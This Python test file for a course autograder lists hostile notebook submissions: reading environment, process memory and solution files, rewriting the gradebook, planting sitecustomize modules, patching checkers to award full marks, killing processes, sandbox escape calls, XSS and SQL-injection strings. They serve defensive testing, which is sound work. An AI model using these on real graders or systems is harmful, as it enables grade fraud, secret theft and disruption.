"""Submissions that mean harm: to get marks that were not earned, to read or to change what is not theirs, to stop the class."""

from autograder.submissions import add_cell, append_to_cell, find, repeat_cell, solved, write_cell
from course.exercises import EXERCISES
from tests.bad_submissions import BEFORE, FIRST, NOTEBOOK, bad, cell, ending, file, named

# To read what is not theirs


@bad("Error")
def reads_the_tests(notebooks, world):
    write_cell(notebooks, FIRST, f"exec(open({str(world.checkout / 'tests/bank_1_gpipe_diagram.py')!r}).read()"
               ".replace('from tests.bank import Case', 'Case = print'))\ngpipe_diagram = FIRST_OUT")


@bad("Error")
def reads_the_solutions(notebooks, world):
    write_cell(notebooks, FIRST, f'''import json
cells = json.load(open({str(world.checkout / "solutions/pipeline_parallelism" / NOTEBOOK)!r}))["cells"]
exec(next("".join(cell["source"]) for cell in cells if "F3 B0" in "".join(cell["source"])))''')


@bad("Error")
def reads_another_submission(notebooks, world):
    write_cell(notebooks, FIRST, f'''import glob, json
path = glob.glob({str(world.place / "submitted")!r} + "/*-good/*/*")[0]
exec(next("".join(cell["source"]) for cell in json.load(open(path))["cells"] if "F3 B0" in "".join(cell["source"])))''')


cell("reads_the_gradebook", lambda world: f"print(open({str(world.place / 'gradebook.db')!r}, 'rb').read())", "Error")
cell("reads_the_environment", """import glob, os
print(os.environ, os.popen("env").read(), [open(path, "rb").read() for path in glob.glob("/proc/*/environ")])""")
cell("reads_the_first_process", lambda world: f"""import os
for path in ("/proc/1/root{world.place}/notes.txt", "/proc/1/cwd/notes.txt", "/proc/self/root/..{world.place}/notes.txt"):
    try:
        print(open(path).read())
    except OSError as error:
        print(error)
print(open("/proc/1/cmdline").read(), os.listdir("/proc/1/fd"))
with open("/proc/1/maps") as maps, open("/proc/1/mem", "rb") as memory:
    for line in maps:
        start, end = (int(part, 16) for part in line.split()[0].split("-"))
        if "rw-p" in line and end - start < 1 << 24:
            memory.seek(start)
            found = memory.read(end - start)
            here = found.find(b"WORD_OF_THE_" + b"GRADER=")
            if here >= 0:
                print(found[here:here + 80])""")
file("symlink_to_the_solution", lambda path: path.symlink_to(path.parents[3] / "key.ipynb"), "link")
file("symlink_to_a_neighbour", lambda path: path.symlink_to(next(path.parents[2].glob("*-good")) / path.parent.name / NOTEBOOK),
     "link")

# To change what is not theirs

cell("writes_the_gradebook", lambda world: f'''import sqlite3
with sqlite3.connect({str(world.place / "gradebook.db")!r}) as book:
    book.execute("update grade set manual_score = 4")''', "Error")
cell("writes_another_submission", lambda world: f"""import glob
for path in glob.glob({str(world.place)!r} + "/submitted/*/*/*") or [{str(world.place / "submitted")!r} + "/planted"]:
    open(path, "w").write("")""", "Error")
cell("writes_into_the_course", lambda world: f"open({str(world.checkout / 'course' / world.marker)!r}, 'w').write('x')", "Error")
cell("writes_into_the_tests", lambda world: f"open({str(world.checkout / 'tests' / world.marker)!r}, 'w').write('x')", "Error")
cell("writes_into_the_interpreter", lambda world: f"""import site, sys
for folder in (*site.getsitepackages(), sys.prefix, sys.base_prefix, "/usr/lib", "/etc", "/", "/proc/1", "/proc/sys/kernel"):
    try:
        open(folder + "/{world.marker}.pth", "w").write("import os; os._exit(1)")
    except OSError:
        continue
    print("written to", folder)""")
cell("writes_the_environment", """import os
os.environ.update(PYTHONPATH="/tmp", PYTHONSTARTUP="/tmp/x.py", LD_PRELOAD="/tmp/x.so", PATH="/tmp")
os.putenv("PYTHONINSPECT", "1")""")
cell("escapes_by_mounts_and_namespaces", lambda world: f"""import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
found = [libc.unshare(kind) for kind in (0x10000000, 0x20000, 0x20000000, 0x40000000)]
found += [libc.mount(b"proc", b"/tmp", b"proc", 0, None), libc.mount(b"/", b"/tmp", None, 4096, None), libc.chroot(b"/tmp"),
          libc.pivot_root(b".", b"."), libc.umount2({str(world.checkout).encode()!r}, 2), libc.ptrace(16, 1, 0, 0)]
print(found)
gpipe_diagram = found == [-1] * len(found) or 1 / 0""")

# To get marks from whoever judges

cell("patched_checker", """import course.answers, course.exercises, course.wire
import course.checks.gpipe_diagram as checks
course.exercises.judge = checks.check_diagram = course.answers.LocalAnswer = lambda *answers: 10.0
for name in vars(checks):
    if name.startswith('check_'):
        setattr(checks, name, lambda *answers: 10.0)
course.wire.to_wire.__code__ = (lambda value: '10.0').__code__""")
cell("patched_builtins", """import builtins, json
builtins.isinstance = builtins.all = builtins.any = lambda *values: True
builtins.len = lambda value: 4
builtins.repr = json.dumps = lambda *values, **options: '10.0'""")
cell("patched_ipython", """import IPython.core.interactiveshell as shell
shell.InteractiveShell.run_code = shell.InteractiveShell.run_cell = lambda *_, **__: 10.0
get_ipython().input_transformers_post.append(lambda lines: ["10.0"])
get_ipython().events.register("post_run_cell", lambda *_: 10.0)
get_ipython().display_formatter.formatters["text/plain"] = lambda value: "10.0\"""")
cell("patched_modules", """import sys, types
for name in [name for name in sys.modules if name.startswith("course.checks")]:
    sys.modules[name] = types.SimpleNamespace(__getattr__=lambda name: lambda *_: 10.0)
sys.meta_path.insert(0, type("Finder", (), {"find_spec": lambda *_: None}))
sys.setrecursionlimit(60)""")


@bad("found 0.0", earned={})
def lying_eq(notebooks, world):
    write_cell(notebooks, BEFORE, """class Liar(float):
    __eq__ = __le__ = __ge__ = __lt__ = __gt__ = lambda self, other: True
    __hash__ = float.__hash__
    __sub__ = __rsub__ = __abs__ = __float__ = lambda self, *other: 0.0
bubbles_per_stage, bubble_fraction_4_4 = [Liar(), Liar(), Liar(), Liar()], Liar()""")


@bad("not an answer", earned={})
def lying_types(notebooks, world):
    write_cell(notebooks, BEFORE, """class Liar:
    __class__ = property(lambda self: float)
    __eq__ = __le__ = __ge__ = lambda self, other: True
    __float__ = lambda self: 3 / 7
    as_integer_ratio = lambda self: (3, 7)
    tolist = lambda self: self
    __iter__ = lambda self: iter([6] * 4)
bubbles_per_stage, bubble_fraction_4_4 = object(), Liar""")


@bad("finite", earned={})
def numbers_that_are_none(notebooks, world):
    write_cell(notebooks, BEFORE, "bubbles_per_stage = [float('nan'), float('inf'), True, 10 ** 1000]\n"
               "bubble_fraction_4_4 = float('nan')")


@bad("bits", earned={})
def giant_numbers(notebooks, world):
    write_cell(notebooks, BEFORE, "bubbles_per_stage = [1 << 10 ** 7] * 4\nbubble_fraction_4_4 = 1 << 5000")


@bad(earned={})
def booleans(notebooks, world):
    write_cell(notebooks, BEFORE, "bubbles_per_stage = [True] * 4\nbubble_fraction_4_4 = True")


@bad(earned={})
def two_answers_for_one_exercise(notebooks, world):
    add_cell(notebooks, FIRST, "first_try = True")
    write_cell(notebooks, BEFORE, "right = 'first_try' not in globals()\nbubbles_per_stage = [6] * 4 if right else [0] * 4\n"
               "bubble_fraction_4_4 = 3 / 7 if right else 0")
    add_cell(notebooks, "ex1-bubbles", "import os\nos._exit(0)")


@bad()
def points_and_grade_ids_edited(notebooks, world):
    for grade_id in ("ex1-diagram", "ex1-bubbles", "ex1-backward-twice"):
        cells, place = find(notebooks, grade_id)
        cells[place] |= {"source": "10.0", "outputs": [
            {"output_type": "execute_result", "data": {"text/plain": "1000.0"}, "metadata": {}, "execution_count": 1}]}
        cells[place]["metadata"]["nbgrader"] |= {"points": 1000, "grade": True, "solution": True, "locked": False}
    cells, place = find(notebooks, "ex1-spot-the-error-answer")
    cells[place]["metadata"]["nbgrader"] |= {"grade_id": "ex1-spot-the-error", "points": 10, "grade": True, "solution": False}
    repeat_cell(notebooks, "ex1-diagram", "100.0")


# What comes back from the learner's side

WORKER = """import gc, io, json, struct
pipes = [one for one in gc.get_objects() if isinstance(one, io.BufferedWriter) and one.name not in (1, 2)]
def forge(data):
    for pipe in pipes:
        pipe.raw.write(data)
def frame(text):
    return struct.pack(">I", len(text)) + text.encode()
"""
cell("forged_frames", WORKER + """for number in range(1, 60):
    forge(frame(json.dumps({"id": number, "answer": "10.0"})))""", "left out")
cell("forged_frames_from_behind", WORKER + """import threading, time
def work():
    for number in range(400):
        forge(frame(json.dumps({"id": number % 40, "answer": json.dumps([6] * 4)})))
        time.sleep(0.001)
threading.Thread(target=work, daemon=True).start()""", "left out")
cell("header_of_4_gb", WORKER + "forge(b'\\xff' * 4 + b'x' * 1000)", "4294967295 bytes")
cell("half_a_frame", WORKER + "forge(struct.pack('>I', 1 << 20) + b'[' * 100)\nimport time\ntime.sleep(600)", "left out")
cell("garbage_between_frames", WORKER + "import os\nforge(b'\\x00\\x00\\x00\\x09' + os.urandom(5000))", "left out")
for name, text in {
        "deep_json": "'[' * 100_000", "not_a_number": "'NaN'", "no_kind_of_data": "'{\"solution\": 10.0}'",
        "endless_number": "'9' * 1_000_000",
        "colliding_keys": "json.dumps({'dict': [[key, 0] for key in itertools.product((-1, -2), repeat=14)][:16_000]})",
}.items():
    ending(name, f"""import autograder.worker as worker, itertools, json
usual, poison = worker.to_wire, {text}
worker.to_wire = lambda value: poison if value == "poison" else usual(value)
gpipe_diagram = "poison\"""", "cannot be read")

# To stop the class

cell("ends_every_process", "import os, signal\nos.kill(-1, signal.SIGKILL)")
cell("ends_its_parent", "import os, signal\nos.kill(os.getppid() or 1, signal.SIGKILL)\nos.kill(1, signal.SIGTERM)")
cell("ends_the_grader", lambda world: f"import os, signal\nos.kill({world.process}, signal.SIGKILL)", "ProcessLookupError")
cell("ends_from_behind", "import os, threading\nthreading.Timer(0.02, os._exit, [1]).start()")
cell("background_process", lambda world: f"""import os, subprocess, sys
sleeps = [sys.executable, "-c", "import time; time.sleep(600)", {world.marker!r}]
subprocess.Popen(sleeps, start_new_session=True)
if not os.fork():
    os.setsid()
    if os.fork():
        os._exit(0)
    os.execv(sleeps[0], sleeps)""")
cell("forked_child_that_goes_on", "import os\nos.fork()")
cell("double_forked_child_that_holds_the_pipe", """import os, time
if not os.fork():
    os.setsid()
    if not os.fork():
        while True:
            os.write(2, b"still here ")
            time.sleep(0.01)
    os._exit(0)""")
cell("network_out", lambda world: f"""import socket
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("192.0.2.1", 53))
except OSError as error:
    print(error)
socket.create_connection(("127.0.0.1", {world.port}), 3).send(b"x")""", "Error")


@bad("were used up", earned={"ex1-bubbles": 4.0, "ex3-use": 4.0})
def slow_calls(notebooks, world):
    name = "3_bubble_fraction.ipynb"
    notebooks[name] = solved()[name]
    for grade_id in ("ex3-derive", "ex3-inverse", "ex3-definitions", "ex3-limits"):
        write_cell(notebooks, f"{grade_id}-answer", "import time\n" + "".join(
            f"def {function}(*_):\n    time.sleep(5)\n" for function in EXERCISES[grade_id].answers))


# Files of their own


PLANT = """import os
for folder in {"/tmp", "/dev/shm", os.getcwd(), os.path.expanduser("~"), "/var/tmp"}:
    for name in ("planted.py", "sitecustomize.py", "usercustomize.py", "course.py", "torch.py"):
        path = f"{folder}/{name}"
        if os.path.exists(path):
            print("found", path)
        try:
            open(path, "w").write("raise SystemExit('planted')")
        except OSError:
            pass"""
for time in "first", "second", "third":
    cell(f"files_for_the_next_one_{time}", PLANT)


@bad()
def modules_in_the_folder(notebooks, world):
    harm = f"open({str(world.place / world.marker)!r}, 'w').write('it ran')\nraise SystemExit(0)\n".encode()
    for name in ("sitecustomize", "conftest", "nbgrader_config", "json", "course/__init__", "autograder/__init__"):
        notebooks[f"{name}.py"] = harm
    add_cell(notebooks, FIRST, "import course, json\nprint(course.__file__)")


@bad()
def scripts_in_texts_and_outputs(notebooks, world):
    script = f"<script>{world.marker}</script><img src=x onerror={world.marker}> [x](javascript:{world.marker})"
    cells, place = find(notebooks, "ex1-diagram")
    cells[place]["outputs"] = [{"output_type": "display_data", "data": {"text/html": script, "image/svg+xml": script},
                                "metadata": {}}]
    add_cell(notebooks, FIRST, f"print({script!r})\ndisplay({script!r})")
    cells.insert(place, {"cell_type": "markdown", "metadata": {}, "source": script, "attachments": {script: {}}})
    append_to_cell(notebooks, BEFORE, f"# {script}")
    notebooks[NOTEBOOK]["metadata"]["title"] = notebooks[NOTEBOOK]["metadata"]["kernelspec"] = {"name": script}


# Names of students' folders, as a download may have them

for name, student in {"steers_terminals": "\x1b[2J\x1b[31m", "has_lines": "\nstudent 200", "turns_writing": "\u202egood",
                      "no_text": "\udcff\udcfe", "too_long": "x" * 200}.items():
    named(f"name_{name}", student, "no student's id", earned={}, status="rejected")
for name, student in {"formula": "=1+1 @SUM(1)", "script": "<script>", "quotes": "'; drop table student; --"}.items():
    named(f"name_{name}", student)
